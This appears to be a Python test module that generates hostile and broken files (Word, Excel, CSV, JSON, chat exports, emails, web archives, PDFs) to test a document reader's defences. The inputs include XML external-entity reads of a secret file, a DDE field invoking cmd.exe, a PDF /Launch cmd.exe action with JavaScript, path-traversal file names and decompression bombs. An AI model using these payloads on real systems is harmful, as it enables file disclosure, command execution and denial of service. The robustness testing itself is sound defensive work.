"""Hostile and broken documents, tables, records, chats, letters, archives of the web and PDF; see hostile.py."""

from __future__ import annotations

import gzip
import io
import json
import zlib
from email.message import EmailMessage

from openpyxl import Workbook
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from tests.collect.hostile import ARTICLE, NEWS, case, html, zipped
from tests.collect.pdf_maker import page, pdf, placed

WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


# --- documents


def docx(body: str, before: str = "", **others: bytes) -> bytes:
    document = f"<?xml version='1.0'?>{before}<w:document {WORDS}><w:body>{body}</w:body></w:document>"
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": document.encode(), **others})


PARAGRAPH = f"<w:p><w:r><w:t>{NEWS}</w:t></w:r></w:p>"


@case("open", suffix=".docx")
def document_with_entities() -> bytes:
    return docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", '<!DOCTYPE d [<!ENTITY x SYSTEM "SECRET_FILE">]>')


@case("limit", suffix=".docx")
def document_bomb() -> bytes:
    return docx(PARAGRAPH + " " * 40_000_000)


@case("limit", suffix=".docx")
def document_of_deep_tables() -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 5_000)


@case("open", suffix=".docx")
def document_that_is_no_xml() -> bytes:
    return docx("<w:p><w:r>")


@case("kind", suffix=".docx")
def document_without_its_text() -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/styles.xml": b"<x/>"})


@case("read", suffix=".docx")
def document_that_includes_others() -> bytes:
    field = '<w:p><w:r><w:instrText>INCLUDETEXT "SECRET_FILE" DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p><w:altChunk/>'
    return docx(field + PARAGRAPH)


@case("text", suffix=".docx")
def document_of_pictures() -> bytes:
    return docx("<w:p><w:r><w:drawing/></w:r></w:p>")


# --- workbooks


def workbook(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.worksheets[0].append(row)
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


def changed(content: bytes, part: str, old: str, new: str) -> bytes:
    """The workbook with words of one part exchanged."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    assert old.encode() in parts[part]
    return zipped({**parts, part: parts[part].replace(old.encode(), new.encode(), 1)})


SHEET = "xl/worksheets/sheet1.xml"


@case("read", "text", suffix=".xlsx")
def workbook_with_formulas() -> bytes:
    return workbook([["id", "text"], [1, NEWS], ["@SUM(1)", '=HYPERLINK("http://x.invalid/"&A1)']])


@case("mapping", suffix=".xlsx")
def workbook_without_a_text() -> bytes:
    return workbook([["a", "b"], [1, 2]])


@case("open", suffix=".xlsx")
def workbook_that_is_no_xml() -> bytes:
    return changed(workbook([["id", "text"], [1, NEWS]]), SHEET, "<sheetData>", "<sheetData><row><c")


@case("open", suffix=".xlsx")
def workbook_with_entities() -> bytes:
    content = workbook([["id", "text"], [1, NEWS]])
    return changed(content, SHEET, "<worksheet", '<!DOCTYPE s [<!ENTITY x SYSTEM "SECRET_FILE">]><worksheet')


@case("read", suffix=".xlsx")
def workbook_that_says_it_is_endless() -> bytes:
    return changed(workbook([["id", "text"], [1, NEWS]]), SHEET, 'ref="A1:B2"', 'ref="A1:XFD1048576"')


@case("limit", suffix=".xlsx")
def workbook_bomb() -> bytes:
    return changed(workbook([["id", "text"], [1, NEWS]]), SHEET, "<sheetData>", "<sheetData>" + " " * 40_000_000)


# --- tables


@case("limit", suffix=".csv")
def table_with_an_open_quote() -> bytes:
    return b'id,text\n1,"' + b"a,b\n" * 2_000_000


@case("mapping", suffix=".csv")
def table_without_a_text() -> bytes:
    return b"a,b\n1,2\n"


@case("open", "read", suffix=".csv")
def table_with_a_row_too_long() -> bytes:
    return f"id,text\n1,{NEWS},x,y\n2,{NEWS}\n".encode()


@case("kind", suffix=".csv")
def table_of_zeros() -> bytes:
    return b"id,text\n" + bytes(10_000)


@case("decode", suffix=".csv")
def table_of_two_charsets() -> bytes:
    # the second is met after the part on which the charset is established, but before a whole row is read
    return b"id,text\n" + b"," * 1_100_000 + NEWS.encode("cp1256") + b"\n"


@case("limit", suffix=".csv")
def table_of_too_many_columns() -> bytes:
    return b",".join(b"c%d" % number for number in range(5_000)) + b"\n"


# --- records


@case("limit", suffix=".json")
def brackets_within_brackets() -> bytes:
    return b"[" * 100_000


@case("limit", suffix=".json")
def objects_within_objects() -> bytes:
    return b'{"text":' * 100_000


@case("read", "open", suffix=".json")
def records_that_break_off() -> bytes:
    return json.dumps([{"text": NEWS}, {"text": NEWS}]).encode()[:-30]


@case("limit", suffix=".json")
def one_endless_string() -> bytes:
    return b'[{"text": "' + b"a" * 20_000_000 + b'"}]'


@case("open", suffix=".json")
def brackets_that_do_not_match() -> bytes:
    return b'[{"text": "x"]}'


@case("read", "open", "text", "open", suffix=".jsonl")
def lines_that_are_no_records() -> bytes:
    return json.dumps({"text": NEWS, "n": float("nan")}).encode() + b'\n{"text": \n{"text": "  "}\n[1, 2]\n'


@case("open", suffix=".jsonl")
def a_number_of_ten_thousand_digits() -> bytes:
    return b'{"text": "x", "n": ' + b"9" * 10_000 + b"}\n"


@case("decode", suffix=".json")
def records_in_utf_16() -> bytes:
    return json.dumps([{"text": NEWS}]).encode("utf-16")


# --- chats


def telegram(*messages: dict[str, object]) -> bytes:
    return json.dumps({"name": "c", "type": "private_group", "id": 1, "messages": list(messages)}, ensure_ascii=False).encode()


@case("read", "read", "passed_over", suffix=".json")
def chat_with_gaps() -> bytes:
    one = {"id": 1, "type": "message", "date": "2016-12-13T10:00:00", "text": NEWS}
    return telegram(one, {"id": 5, "type": "service", "text": ""}, {"id": 900, "type": "message", "text": [NEWS, {"type": "link"}]})


@case("read", "open", suffix=".json")
def chat_that_breaks_off() -> bytes:
    one: dict[str, object] = {"id": 1, "type": "message", "text": NEWS}
    return telegram(one, one)[:-40]


@case("passed_over", suffix=".json")
def chat_of_strange_messages() -> bytes:
    return telegram({"id": [1], "type": {}, "text": {"text": 5}}, {}, {"text": None, "type": "message"}, {"type": "message", "text": "😢"})


@case("read", "passed_over", suffix=".txt")
def chat_of_left_out_media() -> bytes:
    return f"13/12/2016, 21:41 - A: <Media omitted>\n13/12/2016, 21:42 - A: {NEWS}\n14/12/2016, 09:00 - B left\n".encode()


# --- letters


def letter(body: bytes, kind: str = "text/plain", more: str = "") -> bytes:
    return f"From: a@x.invalid\nSubject: s\nDate: never\nMIME-Version: 1.0\nContent-Type: {kind}\n{more}\n".encode() + body


@case("limit", suffix=".eml")
def letter_of_deep_parts() -> bytes:
    parts = "".join(f"--{n}\nContent-Type: multipart/mixed; boundary={n + 1}\n\n" for n in range(400))
    return letter(parts.encode(), "multipart/mixed; boundary=0")


@case("read", suffix=".eml")
def letter_of_an_unknown_charset() -> bytes:
    return letter(NEWS.encode("cp1256"), "text/plain; charset=x-none", "Content-Transfer-Encoding: 8bit\n")


@case("read", suffix=".eml")
def letter_that_declares_a_strange_codec() -> bytes:
    return letter(NEWS.encode(), "text/plain; charset=zip", "Content-Transfer-Encoding: 8bit\n")


@case("text", suffix=".eml")
def letter_without_words() -> bytes:
    return letter(b"")


@case("read", "limit", suffix=".eml")
def letter_with_a_bomb() -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"], message["Date"] = "a@x.invalid", "s", "Tue, 13 Dec 2016 23:30:00 +0200"
    message.set_content(NEWS)
    message.add_attachment(zipped({"a.txt": b"0" * 30_000_000}), maintype="application", subtype="zip", filename="../../a.zip")
    return message.as_bytes()


@case("read", suffix=".eml")
def letter_that_fetches() -> bytes:
    return letter(f'<img src="http://x.invalid/p.png"><script>alert(1)</script><p>{NEWS}</p>'.encode(), "text/html; charset=utf-8")


@case("kind", suffix=".eml")
def letter_of_bad_base64() -> bytes:
    return letter(b"@@@@====@@AAAA\x00", "text/plain", "Content-Transfer-Encoding: base64\n")


# --- archives of the web


def warc(*answers: tuple[str, bytes, list[tuple[str, str]]]) -> bytes:
    held = io.BytesIO()
    writer = WARCWriter(held, gzip=False)
    for address, content, headers in answers:
        status = StatusAndHeaders("200 OK", headers, protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(address, "response", payload=io.BytesIO(content), http_headers=status))
    return held.getvalue()


HTML = [("Content-Type", "text/html; charset=utf-8")]


@case("read", "passed_over", suffix=".warc")
def archive_that_climbs_out() -> bytes:
    content = html(ARTICLE).encode()
    return warc(("http://x.invalid/../../climbed", content, HTML), ("file:///../../climbed", content, HTML))


@case("read", "open", suffix=".warc")
def archive_that_breaks_off() -> bytes:
    return warc(("http://x.invalid/1", html(ARTICLE).encode(), HTML)) + b"WARC/1.0\r\nWARC-Type: resp"


@case("limit", suffix=".warc")
def archive_with_a_bomb() -> bytes:
    return warc(("http://x.invalid/1", gzip.compress(b"0" * 70_000_000), [*HTML, ("Content-Encoding", "gzip")]))


@case("passed_over", suffix=".warc")
def archive_of_pictures() -> bytes:
    return warc(("http://x.invalid/1", b"\x89PNG", [("Content-Type", "image/png")]))


@case("open", suffix=".warc")
def archive_of_nothing() -> bytes:
    return b"WARC/1.0\r\n"


# --- PDF

LINES = ["مقتل ٢٥ مدنيا في قصف على المدينة", "أعلن الدفاع المدني أن 25 شخصا قتلوا في الغارة على السوق"]


@case("text", suffix=".pdf")
def pdf_of_pictures() -> bytes:
    return pdf([[]])


@case("decode", suffix=".pdf")
def pdf_without_unicode() -> bytes:
    return pdf([page(LINES)], named=False)


@case("decode", suffix=".pdf")
def pdf_with_a_digit_unnamed() -> bytes:
    return pdf([page(LINES * 20)], unnamed="٢")


@case("decode", suffix=".pdf")
def pdf_back_to_front() -> bytes:
    return pdf([[glyph for index, line in enumerate(LINES) for glyph in placed(line, top=700 - 20 * index)]])


@case("decode", suffix=".pdf")
def pdf_mirrored() -> bytes:
    return pdf([page(LINES)], matrix="-1 0 0 1")


@case("decode", suffix=".pdf")
def pdf_turned() -> bytes:
    return pdf([page(LINES)], matrix="0 1 -1 0")


@case("decode", suffix=".pdf")
def pdf_of_letters_in_one_place() -> bytes:
    return pdf([[(char, 100.0, top) for char, _, top in page(LINES)]])


@case("open", suffix=".pdf")
def pdf_that_breaks_off() -> bytes:
    return pdf([page(LINES)])[:300]


@case("open", suffix=".pdf")
def pdf_with_a_damaged_stream() -> bytes:
    content = pdf([page(LINES * 10)])
    start = content.index(b"stream") + 7
    return content[: start + 200] + b"rubbish" * 10 + content[start + 270 :]


@case("limit", suffix=".pdf")
def pdf_that_is_locked_and_large() -> bytes:
    return pdf([page(LINES)], extra=[b"(" + b"x" * 500_000 + b")"]).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 8 0 R")


@case("limit", suffix=".pdf")
def pdf_of_letters_without_end() -> bytes:
    content = zlib.compress(b"BT /F 12 Tf 1 0 0 1 10 10 Tm <" + b"0627" * 5_000_000 + b"> Tj ET")
    stream = b"<< /Length %d /Filter /FlateDecode >> stream\n%s\nendstream" % (len(content), content)
    return pdf([page(LINES)], extra=[stream]).replace(b"/Contents 4 0 R", b"/Contents 9 0 R")


@case("limit", suffix=".pdf")
def pdf_of_more_letters_than_a_page_has() -> bytes:
    content = zlib.compress(b"BT /F 12 Tf 1 0 0 1 10 10 Tm " + b"<06270628> Tj " * 60_000 + b" ET")
    stream = b"<< /Length %d /Filter /FlateDecode >> stream\n%s\nendstream" % (len(content), content)
    return pdf([page(LINES)], extra=[stream]).replace(b"/Contents 4 0 R", b"/Contents 9 0 R")


@case("limit", suffix=".pdf")
def pdf_bomb() -> bytes:
    packed = zlib.compress(zlib.compress(b"0" * 70_000_000))
    bomb = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >> stream\n%s\nendstream" % (len(packed), packed)
    return pdf([page(LINES)], extra=[bomb])


@case("read", suffix=".pdf")
def pdf_that_would_run_programs() -> bytes:
    launch = b"<< /S /Launch /F (cmd.exe) >>"
    script = b"<< /S /JavaScript /JS (app.launchURL\\('http://x.invalid'\\)) >>"
    return pdf([page(LINES)], extra=[launch, script]).replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction 8 0 R", 1)


@case("read", suffix=".pdf")  # its one page is found all the same
def pdf_whose_pages_hold_themselves() -> bytes:
    return pdf([page(LINES)]).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


@case("open", suffix=".pdf")
def pdf_of_rubbish() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 50
